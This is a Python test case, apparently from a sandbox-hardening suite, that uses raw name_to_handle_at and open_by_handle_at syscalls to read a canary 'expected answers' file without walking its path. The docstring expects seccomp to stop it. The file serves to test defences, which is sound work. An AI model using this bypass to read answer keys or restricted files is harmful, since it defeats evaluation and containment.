"""Opens the expected answers by a file handle, without walking their path, as a backup program of root may.

attacked: crashed
layer: seccomp
"""

import ctypes
import os

NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT = 303, 304


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]


def attacked(x):
    libc = ctypes.CDLL(None, use_errno=True)
    handle, mount = Handle(128), ctypes.c_int()
    if libc.syscall(NAME_TO_HANDLE_AT, -100, b"@CANARY@", ctypes.byref(handle), ctypes.byref(mount), 0) < 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    fd = libc.syscall(OPEN_BY_HANDLE_AT, os.open(".", os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY)
    if fd >= 0:
        print(os.read(fd, 4096))
    return x + 1  # the handle alone tells that the file is there, and which it is
